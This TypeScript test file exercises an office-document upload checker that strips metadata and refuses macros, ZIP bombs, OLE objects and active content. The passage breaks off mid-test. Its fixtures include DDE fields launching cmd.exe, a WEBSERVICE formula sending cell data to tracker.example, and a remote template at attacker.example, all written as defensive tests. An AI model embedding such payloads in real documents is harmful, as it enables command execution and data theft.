import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import sharp from 'sharp';
import { multipartBody } from '../../../test/factories/incident-reports.js';
import { createPage } from '../../../test/factories/pages.js';
import { AUTHOR, COMMENT, COMPANY, EDITOR, legacyDoc, manyPartsOdt, odfFile, ooxmlFile, zipBombOdt } from '../../../test/helpers/office-files.js';
import { signInAs, type StaffAgent } from '../../../test/helpers/staff.js';
import { createTestApp, testEngines, type TestContext } from '../../../test/helpers/test-app.js';
import { cleanOfficeBytes } from '../media/office-documents.js';
import { contentFiles } from '../media/storage.js';
import { checkUpload } from './upload-check.js';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** The library's form as a browser sends it: the CSRF token first, then the files. */
const libraryForm = (csrf: string, files: Array<{ name: string; bytes: Buffer }>) =>
  multipartBody({ _csrf: csrf }, files.map((f) => ({ ...f, type: 'application/octet-stream' })));

function assertNoMetadata(bytes: Buffer) {
  const parts = unzipSync(bytes);
  const text = Object.values(parts).map((part) => strFromU8(part)).join('\n');
  for (const secret of [AUTHOR, EDITOR, COMPANY, COMMENT]) assert.ok(!text.includes(secret), `${secret} is gone`);
  return parts;
}

describe('office documents', () => {
  it('takes Word, Excel and PowerPoint files by their content and stores them without their properties', async () => {
    const cases = [
      { name: 'report.docx', bytes: ooxmlFile('docx'), mime: DOCX, main: 'word/document.xml' },
      { name: 'figures.xlsx', bytes: ooxmlFile('xlsx'), mime: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', main: 'xl/workbook.xml' },
      { name: 'slides.pptx', bytes: ooxmlFile('pptx'), mime: 'application/vnd.openxmlformats-officedocument.presentationml.presentation', main: 'ppt/presentation.xml' },
    ];
    for (const c of cases) {
      assert.match(strFromU8(unzipSync(c.bytes)['docProps/core.xml']!), new RegExp(AUTHOR), 'the fixture carries its author');
      const check = await checkUpload(c.bytes, c.name);
      assert.ok(check.ok && check.kind === 'office', c.name);
      assert.equal(check.mime, c.mime);
      const parts = assertNoMetadata(check.cleaned);
      assert.deepEqual(Object.keys(parts).sort(), ['[Content_Types].xml', '_rels/.rels', c.main].sort());
      // What is left still says what the package holds, and names no part that is gone.
      const types = strFromU8(parts['[Content_Types].xml']!);
      assert.match(types, new RegExp(`PartName="/${c.main}"`));
      assert.doesNotMatch(types, /docProps/);
      const rels = strFromU8(parts['_rels/.rels']!);
      assert.match(rels, new RegExp(`Target="${c.main}"`));
      assert.doesNotMatch(rels, /docProps/);
      assert.match(strFromU8(parts[c.main]!), /presentation|workbook|Land report 2024/);
    }
  });

  it('takes OpenDocument files, empties meta.xml and keeps mimetype first and uncompressed', async () => {
    for (const kind of ['odt', 'ods', 'odp'] as const) {
      assert.match(strFromU8(unzipSync(odfFile(kind))['meta.xml']!), new RegExp(AUTHOR), 'the fixture carries its author');
      const check = await checkUpload(odfFile(kind), `minutes.${kind}`);
      assert.ok(check.ok && check.kind === 'office', kind);
      assert.equal(check.mime, `application/vnd.oasis.opendocument.${{ odt: 'text', ods: 'spreadsheet', odp: 'presentation' }[kind]}`);
      const parts = assertNoMetadata(check.cleaned);
      assert.match(strFromU8(parts['meta.xml']!), /<office:meta\/>/);
      assert.ok(parts['META-INF/manifest.xml'] && parts['content.xml']);
      // The first local header: signature, compression method 0 (stored), name `mimetype`, then the type itself.
      const bytes = check.cleaned;
      assert.equal(bytes.readUInt32LE(0), 0x04034b50);
      assert.equal(bytes.readUInt16LE(8), 0);
      assert.equal(bytes.subarray(30, 38).toString('latin1'), 'mimetype');
      assert.equal(bytes.readUInt16LE(28), 0, 'no extra field before the type');
      assert.equal(bytes.subarray(38, 38 + check.mime.length).toString('latin1'), check.mime);
    }
  });

  it('cleans the same file to the same bytes, so it is stored once', async () => {
    const first = await cleanOfficeBytes(odfFile('odt'));
    const second = await cleanOfficeBytes(odfFile('odt'));
    assert.ok(first.ok && second.ok);
    assert.ok(first.bytes.equals(second.bytes));
  });

  it('refuses macros, the old binary formats, ZIP bombs, other containers and names that do not match', async () => {
    const refused = async (bytes: Buffer, name: string) => {
      const check = await checkUpload(bytes, name);
      assert.ok(!check.ok, name);
      return check.problem;
    };
    assert.equal(await refused(ooxmlFile('docm'), 'budget.docm'), 'macros');
    assert.equal(await refused(ooxmlFile('docm'), 'budget.docx'), 'macros');
    assert.equal(await refused(ooxmlFile('xlsx', { 'xl/vbaProject.bin': 'Attribute VB_Name' }), 'budget.xlsx'), 'macros');
    assert.equal(await refused(odfFile('odt', { 'Basic/Standard/Module1.xml': '<script/>' }), 'notes.odt'), 'macros');
    assert.equal(await refused(ooxmlFile('xlsx'), 'budget.xlsm'), 'macros');
    assert.equal(await refused(legacyDoc(), 'old-report.doc'), 'legacyOffice');
    assert.equal(await refused(legacyDoc(), 'old-report.pdf'), 'legacyOffice');
    // A .docx saved with a password is an encrypted package inside the old container.
    assert.equal(await refused(legacyDoc(), 'protected.docx'), 'encryptedDocument');
    assert.equal(await refused(zipBombOdt(), 'bomb.odt'), 'zipBomb');
    assert.equal(await refused(manyPartsOdt(5001), 'many.odt'), 'zipBomb');
    assert.ok((await checkUpload(manyPartsOdt(100), 'many.odt')).ok);
    assert.equal(await refused(ooxmlFile('docx'), 'report.xlsx'), 'extensionMismatch');
    assert.equal(await refused(odfFile('odt'), 'report.docx'), 'extensionMismatch');
    assert.equal(await refused(Buffer.from(zipSync({ 'readme.txt': strToU8('not a document') })), 'archive.docx'), 'unknownType');
    assert.equal(await refused(ooxmlFile('docx').subarray(0, 200), 'cut.docx'), 'brokenDocument');
  });

  it('stops inflating an entry that lies about its size at the size it declared, and refuses it', async () => {
    const bytes = Buffer.from(zipBombOdt());
    // The central directory's uncompressed size of content.xml (the second entry) says 100 bytes.
    const central = bytes.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), bytes.lastIndexOf(Buffer.from('mimetype')) + 8);
    assert.equal(bytes.readUInt32LE(central + 24), 201 * 1024 * 1024);
    bytes.writeUInt32LE(100, central + 24);
    const started = Date.now();
    const read = await cleanOfficeBytes(bytes);
    assert.deepEqual(read, { ok: false, problem: 'zipBomb' });
    assert.ok(Date.now() - started < 2000, 'not decoded to its end');
  });
});

for (const engine of testEngines()) {
  describe(`office documents in the media library (${engine})`, () => {
    let t: TestContext;
    let editor: StaffAgent;
    let khmerEditor: StaffAgent;
    const upload = (agent: StaffAgent, files: Array<{ name: string; bytes: Buffer }>) => {
      const body = libraryForm(agent.csrfToken, files);
      return t.app.inject({ method: 'POST', url: '/admin/media', headers: { ...body.headers, cookie: agent.cookie }, payload: body.payload });
    };
    const fileCount = async () => Number((await t.db.selectFrom('files').select((eb) => eb.fn.countAll<number | string>().as('n')).executeTakeFirstOrThrow()).n);

    before(async () => {
      t = await createTestApp(engine);
      editor = await signInAs(t, 'editor');
      khmerEditor = await signInAs(t, 'editor', { locale: 'km' });
    });
    after(() => t.close());

    it('stores an uploaded .docx without its properties, and serves it as Word with its name once a published page links to it', async () => {
      const res = await upload(editor, [{ name: 'Land report 2024.docx', bytes: ooxmlFile('docx') }]);
      assert.equal(res.statusCode, 200, res.body);
      assert.match(res.body, /1 file uploaded/);
      assert.match(res.body, /without their document properties/);
      const file = await t.db.selectFrom('files').selectAll().where('originalName', '=', 'Land report 2024.docx').executeTakeFirstOrThrow();
      assert.equal(file.mime, DOCX);
      const stored = await contentFiles(t.app.storage).get(file.sha256);
      assert.ok(stored);
      assert.equal(stored.length, file.size);
      const parts = assertNoMetadata(stored);
      assert.match(strFromU8(parts['word/document.xml']!), /Land report 2024/);
      const audit = await t.db.selectFrom('auditLog').select(['action']).where('subjectType', '=', 'file').where('subjectId', '=', String(file.id)).execute();
      assert.deepEqual(audit.map((a) => a.action), ['file.upload']);
      const page = await t.app.inject({ url: `/admin/media/${file.id}`, headers: { cookie: editor.cookie } });
      assert.equal(page.statusCode, 200);
      assert.match(page.body, new RegExp(DOCX.replace(/\./g, '\\.')));

      const url = `/files/${file.sha256}/Land%20report%202024.docx`;
      assert.equal((await t.app.inject(url)).statusCode, 404, 'not public until something published links to it');
      await createPage(t.db, { translations: { en: { title: 'Reports', bodyHtml: `<p><a href="${url}">The report</a></p>` } } });
      const served = await t.app.inject(url);
      assert.equal(served.statusCode, 200);
      assert.equal(served.headers['content-type'], DOCX);
      assert.equal(served.headers['content-disposition'], `attachment; filename="Land_report_2024.docx"; filename*=UTF-8''Land%20report%202024.docx`);
      assert.equal(served.headers['x-content-type-options'], 'nosniff');
      assert.ok(served.rawPayload.equals(stored));

      // The same document again is the same cleaned bytes: nothing new is stored.
      const again = await upload(editor, [{ name: 'Land report 2024.docx', bytes: ooxmlFile('docx') }]);
      assert.equal(again.statusCode, 200);
      assert.match(again.body, /already in the library/);
    });

    it('stores an OpenDocument text and lists it under its filter', async () => {
      const res = await upload(editor, [{ name: 'minutes.odt', bytes: odfFile('odt') }]);
      assert.equal(res.statusCode, 200, res.body);
      const file = await t.db.selectFrom('files').selectAll().where('originalName', '=', 'minutes.odt').executeTakeFirstOrThrow();
      assert.equal(file.mime, 'application/vnd.oasis.opendocument.text');
      assertNoMetadata((await contentFiles(t.app.storage).get(file.sha256))!);
      const list = await t.app.inject({ url: '/admin/media?type=office', headers: { cookie: editor.cookie } });
      assert.equal(list.statusCode, 200);
      assert.match(list.body, /minutes\.odt/);
      assert.doesNotMatch((await t.app.inject({ url: '/admin/media?type=pdf', headers: { cookie: editor.cookie } })).body, /minutes\.odt/);
    });

    it('refuses a macro file, an old .doc and a ZIP bomb with the reason, in English and in Khmer, storing nothing', async () => {
      const before = await fileCount();
      const res = await upload(editor, [
        { name: 'budget.docm', bytes: ooxmlFile('docm') },
        { name: 'budget.xlsx', bytes: ooxmlFile('xlsx', { 'xl/vbaProject.bin': 'Attribute VB_Name' }) },
        { name: 'old.doc', bytes: legacyDoc() },
        { name: 'bomb.odt', bytes: zipBombOdt() },
      ]);
      assert.equal(res.statusCode, 400);
      assert.match(res.body, /budget\.docm: files with macros/);
      assert.match(res.body, /budget\.xlsx: files with macros/);
      assert.match(res.body, /old\.doc: the old Word, Excel and PowerPoint formats/);
      assert.match(res.body, /bomb\.odt: the file unpacks to more than 200 MB/);
      const km = await upload(khmerEditor, [
        { name: 'budget.docm', bytes: ooxmlFile('docm') },
        { name: 'bomb.odt', bytes: zipBombOdt() },
      ]);
      assert.equal(km.statusCode, 400);
      assert.match(km.body, /budget\.docm៖ ឯកសារដែលមានម៉ាក្រូ/);
      assert.match(km.body, /bomb\.odt៖ ឯកសារនេះពន្លាចេញធំជាង ២០០ MB/);
      assert.equal(await fileCount(), before);
    });

    it('refuses an embedded OLE object and a linked picture with the reason, in English and in Khmer, storing nothing', async () => {
      const before = await fileCount();
      const ole = ooxmlFile('docx', { 'word/embeddings/oleObject1.bin': 'OLE object' });
      const linked = ooxmlFile('pptx', {
        'ppt/slides/_rels/slide1.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://tracker.example/p.png" TargetMode="External"/></Relationships>',
      });
      const res = await upload(editor, [
        { name: 'ole.docx', bytes: ole },
        { name: 'linked.pptx', bytes: linked },
      ]);
      assert.equal(res.statusCode, 400);
      assert.match(res.body, /ole\.docx: files with embedded objects/);
      assert.match(res.body, /linked\.pptx: files with embedded objects \(an OLE object, or a workbook or document inside the file that has macros or objects of its own\) or with links that fetch something/);
      const km = await upload(khmerEditor, [{ name: 'ole.docx', bytes: ole }]);
      assert.equal(km.statusCode, 400);
      assert.match(km.body, /ole\.docx៖ ឯកសារដែលមានវត្ថុបង្កប់/);
      assert.equal(await fileCount(), before);
    });

    it('reads a character reference beyond Unicode as U+FFFD instead of failing the upload', async () => {
      for (const ref of ['&#x110000;', '&#99999999999999999999;']) {
        const res = await upload(editor, [{ name: 'minutes.odt', bytes: odtWith(`<draw:frame><draw:image xlink:href="${ref}"/></draw:frame>`) }]);
        assert.equal(res.statusCode, 200, res.body);
      }
    });

    it('refuses a file that grows beyond 50 MB when cleaned, in English and in Khmer, storing nothing', async () => {
      const before = await fileCount();
      const docx = await docxGrowingWhenCleaned();
      const en = await upload(editor, [{ name: 'photos.docx', bytes: docx }]);
      assert.equal(en.statusCode, 400);
      assert.match(en.body, /photos\.docx: once its pictures are re-encoded without their metadata, the file is larger than 50 MB/);
      const km = await upload(khmerEditor, [{ name: 'photos.docx', bytes: docx }]);
      assert.equal(km.statusCode, 400);
      assert.match(km.body, /photos\.docx៖ នៅពេលរូបភាពរបស់វាត្រូវបានអ៊ិនកូដឡើងវិញ/);
      assert.equal(await fileCount(), before);
    });

    it("takes a Word file in a publication's document field, and refuses an image or a text file there in the editor's language", async () => {
      const send = (agent: StaffAgent, name: string, bytes: Buffer) => {
        const body = multipartBody({}, [{ field: 'file', name, type: 'application/octet-stream', bytes }]);
        return t.app.inject({
          method: 'POST',
          url: '/admin/media/upload.json?accept=document',
          headers: { ...body.headers, cookie: agent.cookie, 'x-csrf-token': agent.csrfToken },
          payload: body.payload,
        });
      };
      const word = await send(editor, 'notes.docx', ooxmlFile('docx', { 'word/document.xml': '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Field notes</w:t></w:r></w:p></w:body></w:document>' }));
      assert.equal(word.statusCode, 200, word.body);
      const { id: fileId } = word.json() as { id: number };
      const stored = await t.db.selectFrom('files').select(['mime', 'originalName']).where('id', '=', fileId).executeTakeFirstOrThrow();
      assert.deepEqual(stored, { mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', originalName: 'notes.docx' });
      assert.match((word.json() as { message: string }).message, /without their document properties/);

      const before = await fileCount();
      const photo = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#468' } }).jpeg().toBuffer();
      const en = await send(editor, 'photo.jpg', photo);
      assert.equal(en.statusCode, 400);
      assert.equal((en.json() as { message: string }).message, 'photo.jpg: this field takes a document (PDF, Word, Excel, PowerPoint or OpenDocument), not an image or another kind of file.');
      const km = await send(khmerEditor, 'photo.jpg', photo);
      assert.equal(km.statusCode, 400);
      assert.match((km.json() as { message: string }).message, /^photo\.jpg៖ ប្រអប់នេះទទួលតែឯកសារ \(PDF, Word/);
      const text = await send(editor, 'notes.txt', Buffer.from('Plain notes, not a document the library takes.\n'));
      assert.equal(text.statusCode, 400);
      assert.match((text.json() as { message: string }).message, /^notes\.txt: /);
      assert.equal(await fileCount(), before);
    });

    it('refuses an upload without the CSRF token a browser sends', async () => {
      const body = libraryForm('not-the-token', [{ name: 'report.docx', bytes: ooxmlFile('pptx') }]);
      const res = await t.app.inject({ method: 'POST', url: '/admin/media', headers: { ...body.headers, cookie: editor.cookie }, payload: body.payload });
      assert.equal(res.statusCode, 403);
    });
  });
}

const ARTIST = 'Secret Photographer Vannak';
const TEMPLATE_PATH = 'file:///C:\\Users\\sokha.secret\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm';

/** A small JPEG carrying an EXIF artist and a GPS position, as a phone writes them. */
async function photoWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 16, height: 12, channels: 3, background: '#884422' } })
    .jpeg()
    .withExif({ IFD0: { Artist: ARTIST, Copyright: ARTIST }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '11/1 33/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '104/1 55/1 0/1' } })
    .toBuffer();
}

const WORD_RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** A .docx with a photo, a thumbnail, customXml, people.xml, a .psmdcp property part and an attached template, like one saved on a staff laptop. */
async function docxWithTraces(extra: Record<string, Uint8Array | string> = {}): Promise<Buffer> {
  const photo = await photoWithGps();
  const base = unzipSync(ooxmlFile('docx'));
  const types = strFromU8(base['[Content_Types].xml']!).replace(
    '</Types>',
    '<Default Extension="jpeg" ContentType="image/jpeg"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/><Override PartName="/word/people.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"/><Override PartName="/package/services/metadata/core-properties/abc.psmdcp" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>',
  );
  const rootRels = strFromU8(base['_rels/.rels']!).replace(
    '</Relationships>',
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="/package/services/metadata/core-properties/abc.psmdcp"/><Relationship Id="rId8" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail" Target="docProps/thumbnail.jpeg"/></Relationships>',
  );
  const files: Record<string, Uint8Array> = {
    ...base,
    '[Content_Types].xml': strToU8(types),
    '_rels/.rels': strToU8(rootRels),
    'word/_rels/document.xml.rels': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${WORD_RELS}/image" Target="media/image1.jpeg"/><Relationship Id="rId2" Type="${WORD_RELS}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2011/relationships/people" Target="people.xml"/><Relationship Id="rId4" Type="${WORD_RELS}/customXml" Target="../customXml/item1.xml"/><Relationship Id="rId5" Type="${WORD_RELS}/hyperlink" Target="https://example.org/" TargetMode="External"/></Relationships>`,
    ),
    'word/media/image1.jpeg': photo,
    'docProps/thumbnail.jpeg': photo,
    'word/settings.xml': strToU8(`<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${WORD_RELS}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`),
    'word/_rels/settings.xml.rels': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${WORD_RELS}/attachedTemplate" Target="${TEMPLATE_PATH}" TargetMode="External"/></Relationships>`,
    ),
    'word/people.xml': strToU8(`<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="${EDITOR}"/></w15:people>`),
    'customXml/item1.xml': strToU8(`<record><owner>${AUTHOR}</owner></record>`),
    'customXml/_rels/item1.xml.rels': strToU8('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'),
    'package/services/metadata/core-properties/abc.psmdcp': strToU8(`<coreProperties><creator>${AUTHOR}</creator></coreProperties>`),
    ...Object.fromEntries(Object.entries(extra).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value])),
  };
  return Buffer.from(zipSync(files));
}

describe('office documents: what else tells who made them', () => {
  it('re-encodes pictures without EXIF or GPS and drops thumbnails, customXml, people.xml, .psmdcp properties and the template path; the file still reads', async () => {
    const original = await docxWithTraces();
    assert.ok(Buffer.from(unzipSync(original)['word/media/image1.jpeg']!).includes(Buffer.from(ARTIST)), 'the fixture photo carries its artist');
    const check = await checkUpload(original, 'report.docx');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    const parts = assertNoMetadata(check.cleaned);
    const all = Buffer.concat(Object.values(parts).map((p) => Buffer.from(p)));
    for (const secret of [ARTIST, 'sokha.secret', 'Normal.dotm', 'psmdcp', 'thumbnail', 'customXml', 'people.xml']) assert.ok(!all.includes(Buffer.from(secret)), `${secret} is gone`);
    assert.deepEqual(
      Object.keys(parts).sort(),
      ['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels', 'word/document.xml', 'word/media/image1.jpeg', 'word/settings.xml'].sort(),
    );
    const photo = await sharp(Buffer.from(parts['word/media/image1.jpeg']!)).metadata();
    assert.equal(photo.format, 'jpeg');
    assert.equal(photo.width, 16);
    assert.equal(photo.exif, undefined, 'no EXIF block');
    assert.equal(photo.xmp, undefined, 'no XMP');
    // What remains still names only parts that exist, so Word opens it.
    const docRels = strFromU8(parts['word/_rels/document.xml.rels']!);
    assert.match(docRels, /media\/image1\.jpeg/);
    assert.match(docRels, /https:\/\/example\.org\//, 'hyperlinks stay');
    assert.doesNotMatch(strFromU8(parts['word/settings.xml']!), /attachedTemplate/);
    assert.match(strFromU8(parts['word/settings.xml']!), /w:zoom/);
    const types = strFromU8(parts['[Content_Types].xml']!);
    assert.doesNotMatch(types, /people|psmdcp|docProps/);
    assert.match(types, /word\/settings\.xml/);
  });

  it('removes a template relationship written with a closing tag, leaving the relationships part well formed', async () => {
    const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${WORD_RELS}/attachedTemplate" Target="${TEMPLATE_PATH}" TargetMode="External"></Relationship></Relationships>`;
    const check = await checkUpload(ooxmlFile('docx', { 'word/_rels/settings.xml.rels': rels }), 'report.docx');
    assert.ok(check.ok && check.kind === 'office');
    assert.equal(strFromU8(unzipSync(check.cleaned)['word/_rels/settings.xml.rels']!), '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>');
  });

  it('refuses a document whose picture cannot be decoded, since its metadata could not be removed', async () => {
    const broken = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1]), Buffer.from(`Exif\0\0${ARTIST}`), Buffer.alloc(64)]);
    const check = await checkUpload(Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), 'word/media/image1.jpeg': broken })), 'report.docx');
    assert.deepEqual(check, { ok: false, problem: 'uncleanableImage' });
  });

  it('drops ODF thumbnails (and their manifest entry) and cleans its pictures', async () => {
    const photo = await photoWithGps();
    const base = unzipSync(odfFile('odt'));
    const manifest = strFromU8(base['META-INF/manifest.xml']!).replace(
      '</manifest:manifest>',
      '<manifest:file-entry manifest:full-path="Thumbnails/thumbnail.png" manifest:media-type="image/png"/><manifest:file-entry manifest:full-path="Pictures/photo.jpg" manifest:media-type="image/jpeg"/></manifest:manifest>',
    );
    const odt = Buffer.from(zipSync({ ...base, mimetype: [base.mimetype!, { level: 0 }], 'META-INF/manifest.xml': strToU8(manifest), 'Thumbnails/thumbnail.png': strToU8(AUTHOR), 'Pictures/photo.jpg': photo }));
    const check = await checkUpload(odt, 'minutes.odt');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    const parts = assertNoMetadata(check.cleaned);
    assert.equal(parts['Thumbnails/thumbnail.png'], undefined);
    assert.doesNotMatch(strFromU8(parts['META-INF/manifest.xml']!), /Thumbnails/);
    assert.ok(!Buffer.from(parts['Pictures/photo.jpg']!).includes(Buffer.from(ARTIST)));
    assert.equal((await sharp(Buffer.from(parts['Pictures/photo.jpg']!)).metadata()).exif, undefined);
  });

  it('refuses embedded objects and external links other than hyperlinks', async () => {
    const rels = (rel: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
    const refused = async (bytes: Buffer) => {
      const check = await checkUpload(bytes, 'report.docx');
      return check.ok ? 'accepted' : check.problem;
    };
    assert.equal(await refused(ooxmlFile('docx', { 'word/embeddings/oleObject1.bin': 'OLE object' })), 'activeContent');
    assert.equal(await refused(ooxmlFile('docx', { 'word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm': 'PK zip' })), 'activeContent');
    assert.equal(
      await refused(ooxmlFile('docx', { 'word/_rels/settings.xml.rels': rels(`<Relationship Id="rId1" Type="${WORD_RELS}/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`) })),
      'activeContent',
      'a remote template (template injection)',
    );
    assert.equal(
      await refused(ooxmlFile('docx', { 'word/_rels/document.xml.rels': rels(`<Relationship TargetMode="External" Id="rId1" Type="${WORD_RELS}/image" Target="http://tracker.example/pixel.png"/>`) })),
      'activeContent',
      'a linked picture',
    );
    assert.equal(await refused(ooxmlFile('docx', { 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId1" Type="${WORD_RELS}/hyperlink" Target="https://example.org/" TargetMode="External"/>`) })), 'accepted');
    const photo = await photoWithGps();
    assert.equal(await refused(await docxWithTraces({ 'word/embeddings/image2.jpeg': photo })), 'accepted', 'a picture under embeddings/ is cleaned, not refused');
  });

  it("takes a chart's embedded workbook, cleaned as a file of its own, and refuses one with macros", async () => {
    const withEmbedded = (workbook: Buffer) => Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': new Uint8Array(workbook) }));
    const workbook = ooxmlFile('xlsx');
    assert.match(strFromU8(unzipSync(workbook)['docProps/core.xml']!), new RegExp(AUTHOR), 'the embedded workbook carries its author');
    const check = await checkUpload(withEmbedded(workbook), 'chart.docx');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    const embedded = Buffer.from(unzipSync(check.cleaned)['word/embeddings/Microsoft_Excel_Worksheet.xlsx']!);
    assertNoMetadata(embedded);
    assert.ok(unzipSync(embedded)['xl/workbook.xml'], 'the workbook still holds its data');
    const withMacros = ooxmlFile('xlsx', { 'xl/vbaProject.bin': 'macros' });
    assert.deepEqual(await checkUpload(withEmbedded(withMacros), 'chart.docx'), { ok: false, problem: 'activeContent' });
  });

  it('refuses OLE objects, packages and controls wherever they are kept, and DDE and WEBSERVICE, and takes a clean package anywhere, cleaned', async () => {
    const rels = (rel: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
    const docxWith = (extra: Record<string, Uint8Array | string>) =>
      Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), ...Object.fromEntries(Object.entries(extra).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value])) }));
    const xlsxWith = (extra: Record<string, string>) => ooxmlFile('xlsx', extra);
    const docm = new Uint8Array(ooxmlFile('docm'));
    const clean = new Uint8Array(ooxmlFile('xlsx'));
    const document = (body: string) => `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
    const cases: Array<[string, Buffer, string]> = [
      ['an OLE object outside embeddings/', docxWith({ 'word/media/x.bin': new Uint8Array(ole) }), 'report.docx'],
      ['a macro document outside embeddings/', docxWith({ 'word/media/x.docx': docm }), 'report.docx'],
      ['an oleObject relationship', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/oleObject" Target="media/image1.png"/>`) }), 'report.docx'],
      ['a control relationship', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/control" Target="media/control1.xml"/>`) }), 'report.docx'],
      ['a package relationship to a macro document', docxWith({ 'word/media/x.docm': docm, 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/package" Target="media/x.docm"/>`) }), 'report.docx'],
      ['a package relationship to nothing taken', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/package" Target="embeddings/missing.xlsx"/>`) }), 'report.docx'],
      ['a DDEAUTO field in pieces', docxWith({ 'word/document.xml': document('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>') }), 'report.docx'],
      ['a simple DDE field', docxWith({ 'word/document.xml': document('<w:p><w:fldSimple w:instr="&#68;DE cmd &quot;/c calc&quot; x"/></w:p>') }), 'report.docx'],
      ['an Excel DDE link', xlsxWith({ 'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }), 'figures.xlsx'],
      ['a WEBSERVICE formula', xlsxWith({ 'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://tracker.example/?"&amp;B1)</f></c></row></sheetData></worksheet>' }), 'figures.xlsx'],
    ];
    for (const [what, bytes, name] of cases) assert.equal(await outcome(bytes, name), 'activeContent', what);

    // A clean workbook is taken wherever it is kept and by a chart's package relationship, and cleaned as a file of its own.
    const chart = docxWith({ 'word/media/book.xlsx': clean, 'word/charts/_rels/chart1.xml.rels': rels(`<Relationship Id="rId1" Type="${WORD_RELS}/package" Target="../media/book.xlsx"/>`) });
    const check = await checkUpload(chart, 'chart.docx');
    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
    assertNoMetadata(Buffer.from(unzipSync(check.cleaned)['word/media/book.xlsx']!));
    // Ordinary fields and formulas stay.
    assert.equal(await outcome(docxWith({ 'word/document.xml': document('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://example.org/added" </w:instrText></w:r></w:p>') }), 'report.docx'), 'accepted');
    assert.equal(await outcome(xlsxWith({ 'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>' }), 'figures.xlsx'), 'accepted');
  });

  it('refuses an OpenDocument file saved with a password', async () => {
    const manifest = (inner: string) =>
      `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${inner}</manifest:file-entry></manifest:manifest>`;
